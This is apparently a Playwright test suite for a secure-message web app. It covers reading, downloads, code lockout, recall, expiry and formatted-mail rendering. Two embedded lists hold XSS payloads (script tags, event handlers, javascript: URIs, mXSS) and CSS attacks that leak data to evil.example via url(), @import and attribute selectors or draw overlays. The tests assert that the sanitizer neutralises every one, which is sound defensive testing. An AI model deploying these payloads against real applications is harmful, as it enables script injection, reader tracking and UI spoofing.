"""The Secure Message Center in real Chromium: a message sent with the real helper, opened by
its recipient through the link, a code from the mail sink, a password; read, download,
recall, expiry, wrong codes, a list of script-injection payloads and one of CSS attacks that
must stay inert, and a formatted message shown with the styles its sender wrote."""

import os
import struct
import time
import zlib

from conftest import ask_for_code, code_for, first_contact, screenshot, send

def test_first_contact_read_and_download(center, page, tmp_path):
    report = os.urandom(700_000)
    link, _ = send(center, tmp_path, "bob@outside.example", "Quarterly figures",
                   "<h2>Figures</h2><p>MARKER-READ the numbers are in.</p>",
                   [("report Q3.pdf", report)])
    page.goto(link)
    page.wait_for_url("**/c/open/**")
    screenshot(page, "first-contact-1-address")
    first_contact(center, page, link, "bob@outside.example", shot="first-contact")
    assert page.is_visible("text=MARKER-READ the numbers are in.")
    assert page.inner_text("h1") == "Quarterly figures"
    screenshot(page, "read")
    with page.expect_download() as download:
        page.click("text=report Q3.pdf")
    assert download.value.suggested_filename == "report Q3.pdf"
    with open(download.value.path(), "rb") as f:
        assert f.read() == report, "the downloaded bytes equal the original"


def test_wrong_codes_lock_the_code(center, page, tmp_path):
    link, _ = send(center, tmp_path, "erin@outside.example", "Codes", "<p>MARKER-CODES</p>")
    ask_for_code(page, link, "erin@outside.example")
    code = code_for(center, "erin@outside.example", 1)
    wrong = "000000" if code != "000000" else "111111"
    for _ in range(5):
        page.fill("#code", wrong)
        page.click("text=Open the message")
        page.wait_for_selector(".problem")
    screenshot(page, "wrong-code")
    page.fill("#code", code)
    page.click("text=Open the message")
    page.wait_for_selector(".problem")
    assert "/c/read/" not in page.url, "the right code no longer opens it after five wrong ones"
    assert not page.is_visible("text=MARKER-CODES")


def test_recall_then_reload_shows_only_that(center, page, tmp_path):
    link, message_id = send(center, tmp_path, "frank@outside.example", "Recall me", "<p>MARKER-RECALL</p>")
    first_contact(center, page, link, "frank@outside.example")
    assert page.is_visible("text=MARKER-RECALL")
    token = center.platform.sign_in()
    center.platform.api("POST", f"/api/v1/messages/{message_id}/recall", {}, token)
    page.reload()
    assert page.is_visible("text=This message was recalled")
    assert not page.is_visible("text=MARKER-RECALL")
    screenshot(page, "recalled")


def test_an_expired_message_shows_only_that(center, page, tmp_path):
    link, message_id = send(center, tmp_path, "gina@outside.example", "Short-lived", "<p>MARKER-EXPIRY</p>")
    first_contact(center, page, link, "gina@outside.example")
    token = center.platform.sign_in()
    soon = int(time.time() * 1000) + 1500
    center.platform.api("PATCH", f"/api/v1/messages/{message_id}", {"expires_at": soon}, token)
    time.sleep(2)
    page.reload()
    assert page.is_visible("text=This message has expired")
    assert not page.is_visible("text=MARKER-EXPIRY")


# Script in every place an email's HTML could try to hide it. Each logs "PWNED" to the
# console (or opens a dialog) if it runs, or fetches from evil.example if remote content
# got through.
PAYLOADS = """
<p>MARKER-XSS before</p>
<script>console.log('PWNED script')</script>
<img src="x" onerror="console.log('PWNED onerror')">
<svg onload="console.log('PWNED svg')"><circle r="1"/></svg>
<body onload="console.log('PWNED body')">
<iframe src="javascript:console.log('PWNED iframe')"></iframe>
<iframe srcdoc="<script>console.log('PWNED srcdoc')</script>"></iframe>
<object data="javascript:alert('PWNED object')"></object>
<embed src="javascript:alert('PWNED embed')">
<a href="javascript:console.log('PWNED href')">click me</a>
<form action="javascript:alert('PWNED form')"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:alert('PWNED meta')">
<div style="background:url(https://evil.example/track.png)">styled</div>
<img src="https://evil.example/pixel.gif">
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<details open ontoggle="console.log('PWNED details')">d</details>
<p>MARKER-XSS after</p>
<math><mtext><table><mglyph><style><img src=x onerror="console.log('PWNED mxss')">
"""


# CSS that tries to fetch (url() in every property that takes one, hidden behind escapes,
# comments and case; @import, @font-face, attribute selectors that would leak a value), to
# run (expression, behavior, -moz-binding), or to draw over the Center's own page (fixed and
# absolute positions, z-index, negative margins and offsets, transforms, huge boxes).
CSS_PAYLOADS = r"""
<style>
@import url(https://evil.example/import.css);
@font-face { font-family: Evil; src: url(https://evil.example/font.woff2); }
p { font-family: Evil; }
input[value^="a"] { background: url(https://evil.example/leak?value=a); }
a[href^="https"] { background-image: url(https://evil.example/leak?href); }
.overlay { position: fixed !important; top: 0; left: 0; width: 100vw; height: 100vh;
           z-index: 2147483647; background: red; }
body, header, nav { background: url(https://evil.example/body.png); display: none; }
</style>
<p>MARKER-CSS before</p>
<div class="overlay">OVERLAY-CLASS</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:red">OVERLAY-FIXED</div>
<div style="position:absolute;top:0;left:0;width:3000px;height:3000px;background:red">OVERLAY-ABSOLUTE</div>
<div style="margin:-3000px 0 0 -3000px;width:9000px;height:6000px;background:red">OVERLAY-MARGIN</div>
<div style="position:relative;top:-3000px;left:-3000px;width:9000px;height:6000px;background:red">OVERLAY-RELATIVE</div>
<div style="transform:translate(-50%,-3000px) scale(50);background:red">OVERLAY-TRANSFORM</div>
<div style="width:20000px;height:8000px;background:red;padding:3000px">OVERLAY-HUGE</div>
<p style="text-indent:-9999px">OVERLAY-INDENT</p>
<div style="background:url(https://evil.example/bg.png)">u1</div>
<div style="background-image:url('https://evil.example/bgi.png')">u2</div>
<ul style="list-style:url(https://evil.example/ls.png)"><li>u3</li></ul>
<ul style="list-style-image:url(https://evil.example/lsi.png)"><li>u4</li></ul>
<div style="border:10px solid;border-image:url(https://evil.example/bi.png) 30 round">u5</div>
<div style="cursor:url(https://evil.example/c.cur),auto">u6</div>
<div style="content:url(https://evil.example/content.png)">u7</div>
<div style="mask:url(https://evil.example/m.svg);-webkit-mask-image:url(https://evil.example/wm.svg)">u8</div>
<div style="background:\75 rl(https://evil.example/escaped.png)">u9</div>
<div style="background:u/**/rl(https://evil.example/comment.png)">u10</div>
<div style="BACKGROUND:URL(https://evil.example/upper.png)">u11</div>
<div style="background-image:image-set('https://evil.example/set.png' 1x)">u12</div>
<div style="width:expression(console.log('PWNED expression'))">u13</div>
<div style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)">u14</div>
<div style="font-family:Evil;color:red!important">u15</div>
<table background="https://evil.example/tbg.png"><tr><td background="https://evil.example/td.png">u16</td></tr></table>
<svg><style>@import url(https://evil.example/svg.css);</style></svg>
<input value="abc">
<a href="https://example.org/">a link</a>
<p>MARKER-CSS after</p>
"""


def watch(center, page):
    """Every console message, dialog, and request that leaves the platform, from now on."""
    console, dialogs, foreign = [], [], []
    page.on("console", lambda m: console.append(m.text))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    base = center.platform.base.replace("localhost", "127.0.0.1")
    page.on("request", lambda r: None if r.url.startswith((center.platform.base, base, "data:"))
            else foreign.append(r.url))
    return console, dialogs, foreign


# For each point of a grid over the window outside the message's area: the element there, if
# it belongs to the message (it would be drawn over the Center's own page).
DRAWN_OUTSIDE = """() => {
    const area = document.querySelector('div.body'), r = area.getBoundingClientRect();
    const outside = [];
    for (let y = 1; y < innerHeight; y += 8) for (let x = 1; x < innerWidth; x += 8) {
        if (x >= r.left && x < r.right && y >= r.top && y < r.bottom) continue;
        const e = document.elementFromPoint(x, y);
        if (e && area.contains(e)) outside.push([x, y, e.textContent.trim().slice(0, 20)]);
    }
    return outside;
}"""

# The Center's own controls: the element at each one's centre is that control (or inside it).
CONTROLS_ON_TOP = """() => ['body > header', 'nav.folders a', 'nav.folders button', 'h1',
                           '.actions a.button'].flatMap(s => [...document.querySelectorAll(s)])
    .filter(c => { const r = c.getBoundingClientRect();
                   const e = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
                   return !(e && (c === e || c.contains(e))); })
    .map(c => c.outerHTML.slice(0, 60))"""


def assert_nothing_drawn_outside(page):
    page.evaluate("window.scrollTo(0, 0)")
    assert page.evaluate(DRAWN_OUTSIDE) == [], "the message drew outside its area"
    assert page.evaluate(CONTROLS_ON_TOP) == [], "something covers the Center's own controls"
    assert page.evaluate("getComputedStyle(document.querySelector('body > header')).display") \
        != "none", "the message styled the Center's page"


def test_script_injection_payloads_stay_inert(center, page, tmp_path):
    link, _ = send(center, tmp_path, "hank@outside.example", "Payloads", PAYLOADS)
    console, dialogs, foreign = watch(center, page)
    first_contact(center, page, link, "hank@outside.example")
    assert page.is_visible("text=MARKER-XSS before") and page.is_visible("text=MARKER-XSS after")
    for text in ("click me", "go", "d"):
        if page.is_visible(f'text="{text}"'):
            page.click(f'text="{text}"', no_wait_after=True)  # what a curious reader would do
    page.wait_for_timeout(500)
    screenshot(page, "payloads")
    assert not [m for m in console if "PWNED" in m], f"injected script ran: {console}"
    assert dialogs == [], f"a dialog opened: {dialogs}"
    assert foreign == [], f"remote content was fetched: {foreign}"
    assert "/c/read/" in page.url and page.is_visible("text=MARKER-XSS before"), "still the message"
    assert_nothing_drawn_outside(page)


def test_css_attacks_stay_inert_and_inside_the_message(center, page, tmp_path):
    link, _ = send(center, tmp_path, "judy@outside.example", "CSS payloads", CSS_PAYLOADS)
    page.set_viewport_size({"width": 1280, "height": 2000})
    console, dialogs, foreign = watch(center, page)
    first_contact(center, page, link, "judy@outside.example")
    assert page.is_visible("text=MARKER-CSS before") and page.is_visible("text=MARKER-CSS after")
    page.hover("text=u6")
    page.click('text="a link"', modifiers=["Control"], no_wait_after=True)
    page.wait_for_timeout(500)
    screenshot(page, "css-payloads")
    assert not [m for m in console if "PWNED" in m], f"injected script ran: {console}"
    assert dialogs == [], f"a dialog opened: {dialogs}"
    assert foreign == [], f"remote content was fetched: {foreign}"
    assert_nothing_drawn_outside(page)
    # Each overlay is refused by the allow-list, not merely clipped: what is left of its style
    # cannot move it (a relative position without offsets stays where the flow puts it).
    for marker in ("OVERLAY-CLASS", "OVERLAY-FIXED", "OVERLAY-ABSOLUTE", "OVERLAY-MARGIN",
                   "OVERLAY-RELATIVE", "OVERLAY-TRANSFORM", "OVERLAY-HUGE", "OVERLAY-INDENT"):
        element = page.locator("div.body").get_by_text(marker, exact=True)
        kept = element.evaluate("e => [getComputedStyle(e).position, getComputedStyle(e).zIndex,"
                                " getComputedStyle(e).transform, e.getAttribute('style') || '']")
        assert kept[:3] in (["static", "auto", "none"], ["relative", "auto", "none"]), kept
        assert not any(w in kept[3] for w in ("top", "left:", ":-", " -", "index")), f"{marker}: {kept}"
    assert page.locator("div.body [style*=url], div.body [background]").count() == 0


# A formatted message as mail clients write it: each marked element's style as written.
STYLED = """
<title>MARKER-TITLE</title>
<style>
p.lead { color: #2e7d32; font-weight: 700; }
@media (max-width: 600px) { p.lead { color: red; } }
</style>
<p class="lead">MARKER-STYLE-RULE</p>
<p style="color:#c00000">MARKER-RED</p>
<p style="font-size:22px; font-family: Georgia, 'Times New Roman', serif">MARKER-SIZE</p>
<p style="text-align:center">MARKER-CENTRE</p>
<table style="border-collapse:collapse; border:2px solid #1f4e79" cellpadding="7">
  <tr><td style="border:1px solid #333333; background-color:#fff3cd; padding:6px 12px">MARKER-CELL</td>
      <td bgcolor="#e0f0ff" align="right" valign="top">MARKER-LEGACY</td></tr>
</table>
<blockquote style="border-left:3px solid #999999; margin:0 0 0 8px; padding-left:10px">MARKER-QUOTE</blockquote>
<font color="#800080" face="Georgia" size="5">MARKER-FONT</font>
<ul style="list-style-type:square"><li>MARKER-LIST</li></ul>
<p>MARKER-PLAIN</p>
"""


def test_a_formatted_message_is_shown_as_its_sender_wrote_it(center, page, tmp_path):
    link, _ = send(center, tmp_path, "kate@outside.example", "Formatted", STYLED)
    console, dialogs, foreign = watch(center, page)
    first_contact(center, page, link, "kate@outside.example")
    screenshot(page, "formatted")

    def style(marker: str, *properties: str) -> dict:
        element = page.locator("div.body").get_by_text(marker, exact=True)
        return element.evaluate(
            "(e, ps) => Object.fromEntries(ps.map(p => [p, getComputedStyle(e)[p]]))",
            list(properties))

    assert style("MARKER-STYLE-RULE", "color", "fontWeight") == \
        {"color": "rgb(46, 125, 50)", "fontWeight": "700"}, "a <style> rule, inlined"
    assert style("MARKER-RED", "color") == {"color": "rgb(192, 0, 0)"}
    assert style("MARKER-SIZE", "fontSize", "fontFamily") == \
        {"fontSize": "22px", "fontFamily": 'Georgia, "Times New Roman", serif'}
    assert style("MARKER-CENTRE", "textAlign") == {"textAlign": "center"}
    assert style("MARKER-CELL", "borderTopWidth", "borderTopStyle", "borderTopColor",
                 "backgroundColor", "paddingTop", "paddingLeft") == {
        "borderTopWidth": "1px", "borderTopStyle": "solid", "borderTopColor": "rgb(51, 51, 51)",
        "backgroundColor": "rgb(255, 243, 205)", "paddingTop": "6px", "paddingLeft": "12px"}
    # The legacy attributes (`align="right"` is Chromium's `-webkit-right` for a cell).
    assert style("MARKER-LEGACY", "backgroundColor", "textAlign", "verticalAlign",
                 "paddingTop") == {"backgroundColor": "rgb(224, 240, 255)",
                                   "textAlign": "-webkit-right", "verticalAlign": "top",
                                   "paddingTop": "7px"}
    table = page.locator("div.body table").evaluate(
        "t => [getComputedStyle(t).borderTopWidth, getComputedStyle(t).borderTopColor,"
        " getComputedStyle(t).borderCollapse]")
    assert table == ["2px", "rgb(31, 78, 121)", "collapse"]
    assert style("MARKER-QUOTE", "borderLeftWidth", "borderLeftStyle", "marginLeft",
                 "paddingLeft") == {"borderLeftWidth": "3px", "borderLeftStyle": "solid",
                                    "marginLeft": "8px", "paddingLeft": "10px"}
    assert style("MARKER-FONT", "color", "fontFamily", "fontSize") == \
        {"color": "rgb(128, 0, 128)", "fontFamily": "Georgia", "fontSize": "24px"}
    assert page.locator("div.body ul").evaluate("u => getComputedStyle(u).listStyleType") == "square"
    # Unstyled text starts from a mail client's defaults; the Center's own text keeps its look.
    assert style("MARKER-PLAIN", "color", "lineHeight", "fontSize") == \
        {"color": "rgb(0, 0, 0)", "lineHeight": "normal", "fontSize": "16px"}
    assert page.locator("dl.meta dt").first.evaluate(
        "e => [getComputedStyle(e).lineHeight, getComputedStyle(document.body).color]") == \
        ["24px", "rgb(27, 27, 27)"]
    # Boxes sized as the browser's own stylesheet sizes them, not as the Center's `*` rule.
    assert style("MARKER-CELL", "boxSizing") == {"boxSizing": "content-box"}
    assert page.locator("div.body table").evaluate("t => getComputedStyle(t).boxSizing") == \
        "border-box"
    assert page.locator("div.body").get_by_text("MARKER-TITLE").count() == 0, "the <title> shows"
    assert not [m for m in console if "Content Security Policy" in m], console
    assert not dialogs and not foreign, (dialogs, foreign)
    assert_nothing_drawn_outside(page)


def png(width: int, height: int) -> bytes:
    """A solid-colour PNG of this size."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\x1f\x4e\x79" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def test_inline_images_come_from_the_message_and_svg_never(center, page, tmp_path):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="console.log(\'PWNED svg\')"/>'
    link, _ = send(center, tmp_path, "ivan@outside.example", "Logo",
                   '<p>MARKER-INLINE</p><img src="cid:logo@acme" alt="logo">'
                   '<img src="cid:vector@acme" alt="vector">',
                   inline=[("logo@acme", "png", png(40, 20)), ("vector@acme", "svg+xml", svg)])
    console = []
    page.on("console", lambda m: console.append(m.text))
    first_contact(center, page, link, "ivan@outside.example")
    logo = page.locator("img[alt=logo]")
    logo.wait_for()
    page.wait_for_function("document.querySelector('img[alt=logo]').complete")
    size = logo.evaluate("img => [img.naturalWidth, img.naturalHeight]")
    assert size == [40, 20], "the image is decrypted from the envelope and shown"
    assert "/inline/" in logo.get_attribute("src")
    assert page.get_attribute("img[alt=vector]", "src") is None, "an SVG is never shown inline"
    assert not [m for m in console if "PWNED" in m]
    screenshot(page, "inline-image")
